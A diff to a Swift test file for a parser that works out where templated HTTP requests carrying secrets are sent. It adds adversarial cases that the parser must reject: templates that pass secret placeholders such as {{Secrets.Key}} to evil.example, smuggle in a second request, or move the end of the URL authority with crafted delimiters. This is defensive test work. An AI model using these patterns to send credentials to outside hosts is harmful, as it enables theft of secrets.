@@ -23,7 +23,7 @@ struct RenderDestinationTests {
         ("GET /v1 HTTP/1.1\r\nHost: API.Stripe.com.\r\nAuthorization: Bearer {{Secrets.Key}}\r\n\r\n", "api.stripe.com"),
         ("\r\n\r\nGET /v1 HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n", "api.stripe.com"),          // empty lines first
         ("GET /v1 HTTP/1.1\nhost: api.stripe.com:8443\n\n", "api.stripe.com:8443"),
-        ("POST /v1 HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n{\"note\":\"HTTP/1.1 is old\"}", "api.stripe.com"),
+        ("POST /v1 HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n{\"hook\":\"https://hooks.example.com/GET /x\"}", "api.stripe.com"),
     ])
     func aRequestNamesItsDestination(template: String, expected: String) throws {
         #expect(try Self.find(template, "http") == expected)
@@ -43,6 +43,10 @@ struct RenderDestinationTests {
         ("an authority-form target", "CONNECT evil.example:443 HTTP/1.1\r\n\r\n"),
         ("a second request", "GET /v1 HTTP/1.1\r\nContent-Length: 0\r\n\r\nGET /x HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
         ("a backslash in the target's authority", "GET https://evil.example\\@api.stripe.com/ HTTP/1.1\r\n\r\n"),
+        ("a version with a space after it", "GET /v1 HTTP/1.1\r\n\r\nGET https://evil.example/ HTTP/1.1 \r\n\r\n"),
+        ("a templated version", "GET /v1 HTTP/1.1\r\n\r\nGET https://evil.example/ HTTP/1.{{Secrets.One}}\r\n\r\n"),
+        ("a request without a version", "GET /v1 HTTP/1.1\r\n\r\nGET https://evil.example/?k={{Secrets.Key}}\r\n"),
+        ("a body that mentions HTTP/1.1", "POST /v1 HTTP/1.1\r\n\r\n{\"note\":\"HTTP/1.1 is old\"}"),
     ])
     func aRequestThatCannotSayIsUnknownEvenWithADestinationParameter(_ what: String, template: String) throws {
         #expect(try Self.find(template, "http", Self.stripe) == nil, "\(what)")
@@ -70,7 +74,25 @@ struct RenderDestinationTests {
         #expect(try Self.find(template, "url", parameter) == expected)
     }
 
+    /// Delimiters may hold '/', '?', '#' or ':': a reference that starts where the authority or
+    /// a header name ends could move that end.
+    @Test func aDelimiterThatCouldEndTheAuthorityMakesItUnknown() throws {
+        func find(_ template: String, _ placement: String, open: String, close: String) throws -> String? {
+            var bytes = Array(template.utf8)
+            return try bytes.withUnsafeMutableBytes { buffer in
+                try RenderDestination.find(template: UnsafeRawBufferPointer(buffer), placement: placement,
+                                           delimiters: try Delimiters(open: open, close: close), parameter: Self.stripe)
+            }?.description
+        }
+        #expect(try find("https://api.stripe.com?{Secrets.Key}.evil.example/", "url", open: "?{", close: "}") == nil)
+        #expect(try find("https://api.stripe.com/{Secrets.Key}", "url", open: "/{", close: "}") == nil)
+        #expect(try find("https://api.stripe.com/v1?k=<%Secrets.Key%>", "url", open: "<%", close: "%>") == "api.stripe.com:443")
+        #expect(try find("GET /v1 HTTP/1.1\r\nHos:{Secrets.T}: x\r\n\r\n", "http", open: ":{", close: "}") == nil)
+    }
+
     @Test(arguments: [
+        "/{{Secrets.Path}}/evil.example/",
+        "ftp://api.stripe.com/",
         "https://{{Secrets.Sub}}.stripe.com/",
         "https://api.stripe.com{{Secrets.Port}}/",
         "{{Secrets.Base}}/v1",
